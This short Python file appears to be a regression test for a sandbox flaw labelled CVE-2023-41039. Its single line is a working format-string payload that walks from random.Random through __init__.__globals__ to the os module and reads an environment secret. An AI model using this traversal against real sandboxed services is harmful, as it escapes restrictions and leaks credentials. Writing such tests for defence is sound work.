# CVE-2023-41039: format traversal through __init__.__globals__ of an allowed class.
import random
print("{0.__init__.__globals__[_os].environ[STATEK_TEST_SECRET]}".format(random.Random(1)))
